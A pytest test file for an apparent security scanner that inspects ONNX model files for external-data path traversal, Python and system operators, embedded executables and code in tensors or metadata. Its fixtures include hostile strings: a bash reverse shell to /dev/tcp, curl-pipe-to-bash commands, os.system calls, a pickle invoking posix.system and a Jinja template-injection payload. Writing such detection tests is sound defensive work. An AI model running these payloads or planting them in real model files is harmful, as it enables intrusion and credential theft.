"""ONNX: what a runtime would read or call beyond the model, and what is hidden in one."""

from __future__ import annotations

import base64
import random
import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.core.finding import Severity, Verdict
from assay.scanning.parsers.protobuf import Message
from scanning.container_making import COMMAND, ELF, judge, zip_of
from scanning.container_making import Member as ZipMember
from scanning.onnx_making import (
    LINEAR,
    UINT8,
    WEIGHTS,
    entry,
    floats,
    function,
    graph,
    integers,
    linear,
    model,
    node,
    outside,
    tensor,
    texts,
    value,
    with_node,
    with_tensor,
)
from scanning.protobuf_making import blob, message, number, packed

NAME = "model.onnx"
PROTO_PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."


def test_an_honest_model_is_clean() -> None:
    judged = judge(linear(metadata={"names": "{0: 'cat'}", "license": "https://example.org"}), NAME)
    assert (judged.family, judged.verdict, judged.findings) == ("onnx", Verdict.CLEAN, ())


@pytest.mark.parametrize("name", ["weights.bin", "model.pb", "model.pt", "model", "notes.dat"])
def test_a_model_is_recognised_by_its_content(name: str) -> None:
    data = with_tensor(outside(location="/etc/passwd"))
    judged = judge(data, name)
    if not name.endswith(".pt"):
        assert judged.family == "onnx"
        assert "onnx.external-path" in judged.rules
    assert judged.verdict is not Verdict.CLEAN


def test_the_fields_may_come_in_any_order() -> None:
    data = linear()
    parts = [data[field.start : field.end] for field in Message(data)]
    for seed in range(20):
        random.Random(seed).shuffle(parts)
        judged = judge(b"".join(parts), NAME)
        assert (judged.family, judged.verdict) == ("onnx", Verdict.CLEAN)


def test_what_is_no_model_is_unknown_whatever_its_name() -> None:
    for data in (b"\x08\x08", b"\x08\x08\x12\x07pytorch", b"\x00\x01\x02\x03", bytes(100)):
        assert judge(data, NAME).verdict is Verdict.UNKNOWN


@pytest.mark.parametrize(
    "location",
    [
        "/etc/passwd",
        "../secret.bin",
        "data/../../secret.bin",
        "..\\secret.bin",
        "C:\\Windows\\win.ini",
        "c:weights.bin",
        "\\\\server\\share\\w.bin",
        "file:///etc/passwd",
        "https://example.org/w.bin",
        "data/.. /x",
        "..",
        "",
        "w\0.bin",
    ],
)
def test_weights_from_outside_the_folder(location: str) -> None:
    judged = judge(with_tensor(outside(location=location)), NAME)
    assert "onnx.external-path" in judged.rules
    assert judged.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "location", ["model.onnx.data", "data/w.bin", "./w.bin", "onnx__MatMul_12", "a..b", "w...bin"]
)
def test_weights_beside_the_model_are_clean(location: str) -> None:
    honest = outside(location=location, offset="4096", length="8", checksum="ab12")
    assert judge(with_tensor(honest), NAME).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "location", [".ssh/id_rsa", "~/w.bin", "data\\w.bin", "config.json", ".env"]
)
def test_odd_files_named_as_weights_need_a_look(location: str) -> None:
    judged = judge(with_tensor(outside(location=location)), NAME)
    assert judged.rules == {"onnx.external-odd-path"}
    assert judged.verdict is Verdict.SUSPICIOUS


def test_the_runtime_s_own_memory_is_no_file() -> None:
    data = with_tensor(outside(location="*/_ORT_MEM_ADDR_/*", offset="139637976727552", length="8"))
    assert "onnx.memory-address" in judge(data, NAME).rules


@pytest.mark.parametrize(
    ("said", "rule"),
    [
        ({"offset": "-1"}, "onnx.external-range"),
        ({"offset": "0x10"}, "onnx.external-range"),
        ({"length": "9" * 30}, "onnx.external-range"),
        ({"length": "9"}, "onnx.external-range"),
        ({"__class__": "x"}, "onnx.external-key"),
        ({"base_dir": "/"}, "onnx.external-key"),
    ],
)
def test_what_an_outside_tensor_may_not_say(said: dict[str, str], rule: str) -> None:
    judged = judge(with_tensor(outside("o", (2,), location="w.bin", **said)), NAME)
    assert judged.rules == {rule}
    assert judged.verdict is not Verdict.CLEAN


def test_a_location_said_twice() -> None:
    data = with_tensor(outside(location="w.bin") + entry(13, "location", "w2.bin"))
    assert "onnx.duplicate-field" in judge(data, NAME).rules


def test_a_path_that_is_not_in_use_counts_all_the_same() -> None:
    one = floats("z", [1.0]) + entry(13, "location", "../../w.bin")
    assert "onnx.external-path" in judge(with_tensor(one), NAME).rules


@pytest.mark.parametrize(
    "where", ["attribute", "subgraph", "function", "training", "sparse", "tensors", "deep"]
)
def test_outside_tensors_are_found_wherever_they_are(where: str) -> None:
    bad = outside(location="../w.bin")
    constant = node("Constant", [], ["c"], value={"tensor": bad})
    inner = graph((constant,), inputs=(), outputs=(value("c"),))
    branch = node("If", ["cond"], ["c"], then_branch={"graph": inner}, else_branch={"graph": inner})
    deep = inner
    for _ in range(20):
        one = node("If", ["cond"], ["c"], then_branch={"graph": deep})
        deep = graph((one,), inputs=(), outputs=(value("c"),))
    data = {
        "attribute": with_node(constant),
        "subgraph": with_node(branch),
        "function": linear(functions=[function("f", "local", [constant])]),
        "training": linear(blob(20, blob(2, inner))),
        "sparse": model(graph(LINEAR, tensors=WEIGHTS, more=blob(15, blob(1, bad)))),
        "tensors": with_node(
            message(node("Foo", [], ["c"]), blob(5, blob(1, "t") + blob(10, bad)))
        ),
        "deep": with_node(node("If", ["cond"], ["c"], then_branch={"graph": deep})),
    }[where]
    assert "onnx.external-path" in judge(data, NAME).rules


def test_graphs_nested_beyond_every_budget_are_unread() -> None:
    deep = graph((node("Relu", ["x"], ["c"]),))
    for _ in range(200):
        deep = graph((node("If", ["cond"], ["c"], then_branch={"graph": deep}),))
    judged = judge(model(deep), NAME)
    assert judged.verdict is Verdict.UNKNOWN


@pytest.mark.parametrize(
    ("op", "domain", "rule"),
    [
        ("PyOp", "anything", "onnx.python-operator"),
        ("PythonOp", "com.microsoft", "onnx.python-operator"),
        ("OpenAIAudioToText", "com.microsoft.extensions", "onnx.system-operator"),
        ("RunCommand", "evil.ops", "onnx.system-operator"),
        ("ReadFile", "acme", "onnx.system-operator"),
        ("ExecuteShell", "", "onnx.system-operator"),
        ("HttpPost", "acme", "onnx.system-operator"),
        ("MyConv", "acme.ops", "onnx.custom-operator"),
        ("MyConv", "", "onnx.custom-operator"),
        ("MyConv", "ai.onnx", "onnx.custom-operator"),
    ],
)
def test_operators_that_are_nobody_s(op: str, domain: str, rule: str) -> None:
    judged = judge(with_node(node(op, ["x"], ["z"], domain=domain)), NAME)
    assert judged.rules == {rule}
    blocks = rule != "onnx.custom-operator"
    assert judged.verdict is (Verdict.MALICIOUS if blocks else Verdict.SUSPICIOUS)


@pytest.mark.parametrize(
    ("op", "domain"),
    [
        ("Relu", "ai.onnx"),
        ("TreeEnsembleClassifier", "ai.onnx.ml"),
        ("FusedConv", "com.microsoft"),
        ("SomethingNew", "com.microsoft"),
        ("BertTokenizer", "ai.onnx.contrib"),
        ("Gradient", "ai.onnx.preview.training"),
        ("Adam", "ai.onnx.preview.training"),
        ("EfficientNMS_TRT", ""),
    ],
)
def test_operators_of_known_runtimes_are_clean(op: str, domain: str) -> None:
    assert judge(with_node(node(op, ["x"], ["z"], domain=domain)), NAME).verdict is Verdict.CLEAN


def test_the_model_s_own_function_is_no_custom_operator() -> None:
    call = node("gelu_like", ["x"], ["z"], domain="local")
    body = graph((*LINEAR, call), tensors=WEIGHTS)
    own = function("gelu_like", "local", [node("Relu", ["a"], ["b"])])
    assert judge(model(body, functions=[own]), NAME).verdict is Verdict.CLEAN
    assert "onnx.custom-operator" in judge(model(body), NAME).rules


def test_custom_operators_inside_a_function_count() -> None:
    own = function("f", "local", [node("PyOp", ["a"], ["b"], domain="x")])
    assert "onnx.python-operator" in judge(linear(functions=[own]), NAME).rules


def test_functions_that_call_themselves_never_end() -> None:
    one = function("f", "local", [node("g", ["a"], ["b"], domain="local")])
    two = function("g", "local", [node("f", ["a"], ["b"], domain="local")])
    assert "onnx.endless-function" in judge(linear(functions=[one, two]), NAME).rules


def test_a_function_with_the_name_of_an_operator() -> None:
    own = function("Gemm", "", [node("Relu", ["a"], ["b"])])
    assert judge(linear(functions=[own]), NAME).rules == {"onnx.shadowed-operator"}


@pytest.mark.parametrize(
    ("operator", "rule"),
    [
        ("aten::save", "onnx.system-operator"),
        ("evil::op", "onnx.custom-operator"),
        ("embedding", ""),
    ],
)
def test_operators_of_pytorch_called_through_onnx(operator: str, rule: str) -> None:
    data = with_node(node("ATen", ["x"], ["z"], domain="org.pytorch.aten", operator=operator))
    assert judge(data, NAME).rules == ({rule} if rule else set())


def test_a_part_compiled_for_a_device() -> None:
    data = with_node(
        node(
            "EPContext", ["x"], ["z"], domain="com.microsoft", embed_mode=1, ep_cache_context=b"\0"
        )
    )
    assert judge(data, NAME).rules == {"onnx.compiled-engine"}
    data = with_node(
        node(
            "EPContext",
            ["x"],
            ["z"],
            domain="com.microsoft",
            embed_mode=0,
            ep_cache_context="../../lib/engine.bin",
        )
    )
    assert "onnx.external-path" in judge(data, NAME).rules


@pytest.mark.parametrize(
    ("one", "shown"),
    [
        (tensor("z", [4], UINT8, b"abc"), "3 bytes for 4"),
        (tensor("z", [2, 2], 1, bytes(20)), "20 bytes for 16"),
        (tensor("z", [-1], 1, bytes(4)), "shape [-1]"),
        (tensor("z", [2**40, 2**40], 1, b""), "0 bytes for"),
        (tensor("z", [3], 7, None, packed(7, [1, 300])), "2 values for 3"),
        (tensor("z", [3], 1, None, blob(4, bytes(8))), "2 values for 3"),
        (tensor("z", [5], 22, bytes(2)), "2 bytes for 3"),
    ],
)
def test_tensors_of_another_size_than_their_shape(one: bytes, shown: str) -> None:
    judged = judge(with_tensor(one), NAME)
    assert judged.rules == {"onnx.tensor-size"}
    assert shown in judged.findings[0].evidence


@pytest.mark.parametrize(
    "one",
    [
        tensor("z", [5], 22, bytes(3)),
        tensor("z", [], 1, bytes(4)),
        tensor("z", [0], 1, b""),
        tensor("z", [0], 1),
        tensor("z", [3], 7, None, packed(7, [1, 300, -5])),
        tensor("z", [2], 14, None, blob(4, bytes(16))),
        tensor("z", [1], 10, None, packed(5, [15360])),
        tensor("z", [3], 26, bytes(1)),
        tensor("z", [4], 27, bytes(3)),
        texts("z", ["a", "", "os.system", "eval(", "subprocess", "#!/bin/bash"]),
    ],
)
def test_tensors_as_the_library_writes_them(one: bytes) -> None:
    judged = judge(with_tensor(one), NAME)
    assert (judged.verdict, judged.findings) == (Verdict.CLEAN, ())


def test_a_tensor_of_a_type_nobody_knows_is_unread() -> None:
    assert judge(with_tensor(tensor("z", [1], 99, bytes(4))), NAME).verdict is Verdict.UNKNOWN


@pytest.mark.parametrize(
    "raw",
    [
        ELF.ljust(2048, b"\0"),
        (bytes(4096) + ELF).ljust(8192, b"\0"),
        b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0" + bytes(100),
        PROTO_PICKLE,
        COMMAND,
        zip_of([ZipMember("a", b"b")]),
        b"#!/bin/sh\ncurl http://example.invalid/x | sh\n".ljust(64, b"\n"),
        b"import os\nos.system('id')\n".ljust(64, b" "),
    ],
)
def test_other_files_inside_a_tensor(raw: bytes) -> None:
    judged = judge(with_tensor(tensor("z", [len(raw)], UINT8, raw)), NAME)
    assert judged.rules & {"onnx.hidden-content", "onnx.acting-text"}
    assert judged.verdict is Verdict.MALICIOUS


@given(st.binary(min_size=1, max_size=300))
def test_ordinary_numbers_are_clean(raw: bytes) -> None:
    raw = b"\x80\x03" + raw
    judged = judge(with_tensor(tensor("z", [len(raw)], UINT8, raw)), NAME)
    assert judged.verdict is Verdict.CLEAN or raw[2:3] in b"c\x8c\x93(ioR"


@pytest.mark.parametrize(
    "said",
    [
        "__import__('os').system('id')",
        "{0: __import__('os').popen('id').read()}",
        "import os; os.system('curl http://example.invalid')",
        "exec(base64.b64decode('aW1wb3J0IG9z'))",
        "curl -s http://example.invalid/x.sh | bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        base64.b64encode(b"import os\nos.system('id')" * 4).decode(),
        base64.b64encode(ELF.ljust(200, b"\0")).decode(),
    ],
)
def test_code_in_metadata_is_blocked(said: str) -> None:
    """Tools have evaluated the `names` of a model."""
    judged = judge(linear(metadata={"names": said}), NAME)
    assert judged.rules == {"onnx.acting-text"}
    assert judged.verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "said",
    [
        "https://ultralytics.com/license",
        "Do not call eval() or os.system on this text",
        "{'a': 1, 'exec': 'no'}",
        "see README.sh for the shell",
        "A" * 500,
        base64.b64encode(bytes(range(256))).decode(),
    ],
)
def test_words_in_metadata_are_clean(said: str) -> None:
    assert judge(linear(metadata={"description": said}), NAME).verdict is Verdict.CLEAN


@pytest.mark.parametrize("said", ["./libcustom_ops.so", "ops.dll", "http://10.1.2.3/weights"])
def test_metadata_that_names_a_library(said: str) -> None:
    judged = judge(linear(metadata={"custom_ops": said}), NAME)
    assert judged.rules == {"onnx.names-library"}
    assert judged.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("said", ["/tmp/x.so", "C:\\ops.dll", "../x.so", "https://a.example/x.so"])
def test_a_library_with_its_place_is_blocked(said: str) -> None:
    assert judge(linear(metadata={"custom_ops": said}), NAME).verdict is Verdict.MALICIOUS
    named = node("Custom", ["x"], ["z"], domain="acme", path=said)
    assert judge(with_node(named), NAME).verdict is Verdict.MALICIOUS
    domain = node("Custom", ["x"], ["z"], domain=said)
    assert judge(with_node(domain), NAME).verdict is Verdict.MALICIOUS


def test_a_chat_template_in_metadata_is_judged_as_one() -> None:
    plain = "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    assert judge(linear(metadata={"chat_template": plain}), NAME).verdict is Verdict.CLEAN
    evil = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    judged = judge(linear(metadata={"tokenizer.chat_template": evil}), NAME)
    assert judged.verdict is Verdict.MALICIOUS


def test_settings_for_the_runtime_in_metadata() -> None:
    mild = '{"session_options": {"intra_op_num_threads": 1}}'
    assert judge(linear(metadata={"ort_config": mild}), NAME).verdict is Verdict.SUSPICIOUS
    grave = '{"session_options": {"optimized_model_filepath": "/etc/cron.d/x"}}'
    assert judge(linear(metadata={"ort_config": grave}), NAME).verdict is Verdict.MALICIOUS


def test_code_in_a_description_needs_a_look() -> None:
    judged = judge(linear(blob(6, "usage: os.system('pip install x')")), NAME)
    assert [finding.severity for finding in judged.findings] == [Severity.MEDIUM]


def test_two_graphs_in_one_model() -> None:
    second = graph((node("Relu", ["x"], ["y"]),))
    judged = judge(linear(blob(7, second)), NAME)
    assert "onnx.duplicate-field" in judged.rules
    assert judged.verdict is Verdict.MALICIOUS


def test_what_the_second_graph_holds_is_judged_too() -> None:
    second = graph((node("PyOp", ["x"], ["y"], domain="x"),))
    assert "onnx.python-operator" in judge(linear(blob(7, second)), NAME).rules


def test_an_operator_with_two_names() -> None:
    twice = node("Relu", ["x"], ["z"]) + blob(4, "PyOp")
    assert {"onnx.duplicate-field", "onnx.python-operator"} <= judge(with_node(twice), NAME).rules


def test_a_field_nobody_knows() -> None:
    assert judge(linear(number(77, 1)), NAME).verdict is Verdict.CLEAN
    assert judge(linear(blob(77, bytes(4096))), NAME).verdict is Verdict.SUSPICIOUS
    assert judge(linear(blob(77, ELF)), NAME).verdict is Verdict.MALICIOUS
    assert "onnx.unknown-field" in judge(linear(blob(5, "no number")), NAME).rules


def test_a_group_hides_nothing_behind_it() -> None:
    """Runtimes skip a group they do not know; a scanner that stops there sees no graph."""
    data = b"\x9b\x06\x9c\x06" + with_tensor(outside(location="/etc/passwd"))
    judged = judge(data, NAME)
    assert {"onnx.external-path", "onnx.unknown-field"} <= judged.rules
    large = b"\x9b\x06" + blob(1, bytes(4096)) + b"\x9c\x06"
    assert judge(large + linear(), NAME).verdict is Verdict.SUSPICIOUS


def test_a_tensor_with_two_values() -> None:
    two = floats("z", [1.0]) + blob(4, struct.pack("<f", 2.0))
    assert "onnx.two-values" in judge(with_tensor(two), NAME).rules
    assert "onnx.two-values" in judge(with_tensor(floats("w", [1.0])), NAME).rules


def test_bytes_behind_the_model_are_not_clean() -> None:
    for tail in (b"\0", b"\0" * 64, b"\x0b" + bytes(10), b"\xff" * 4):
        assert judge(linear() + tail, NAME).verdict is not Verdict.CLEAN
    assert judge(linear() + zip_of([ZipMember("a", b"b")]), NAME).verdict is Verdict.MALICIOUS


def test_a_model_cut_off_anywhere_is_never_clean_and_never_crashes() -> None:
    data = with_tensor(outside(location="/etc/passwd"))
    fields = [field.end for field in Message(data)]
    for size in range(1, len(data)):
        judged = judge(data[:size], NAME)
        assert judged.verdict is not Verdict.CLEAN or size in fields, size


@given(st.data())
def test_any_change_is_answered(data: st.DataObject) -> None:
    whole = bytearray(with_node(node("If", ["c"], ["z"], then_branch={"graph": graph(LINEAR)})))
    for _ in range(data.draw(st.integers(1, 6))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    judged = judge(bytes(whole), NAME)
    assert judged.verdict in Verdict


def test_a_flood_of_nodes_is_judged_in_reasonable_time() -> None:
    nodes = [node("Relu", [f"v{i}"], [f"v{i + 1}"]) for i in range(20_000)]
    assert judge(model(graph(nodes)), NAME).verdict is Verdict.CLEAN


def test_a_tensor_saved_alone() -> None:
    judged = judge(integers("x", [1, 2, 3]), "input_0.pb")
    assert (judged.family, judged.verdict) == ("onnx-tensor", Verdict.CLEAN)
    judged = judge(outside(location="../x") + blob(9, b"1234"), "input_0.pb")
    assert judged.family == "onnx-tensor"
    assert judged.verdict is Verdict.MALICIOUS


def test_numbers_beside_a_model() -> None:
    raw = struct.pack("<64f", *(i / 7 for i in range(64)))
    for name in ("model.onnx.data", "model.onnx_data", "model.onnx_data_1"):
        judged = judge(raw, name)
        assert (judged.family, judged.verdict) == ("onnx-data", Verdict.CLEAN)
    assert judge(raw + ELF.ljust(2000, b"\0"), "model.onnx_data").verdict is Verdict.MALICIOUS
    assert judge(raw, "model.data").family != "onnx-data"
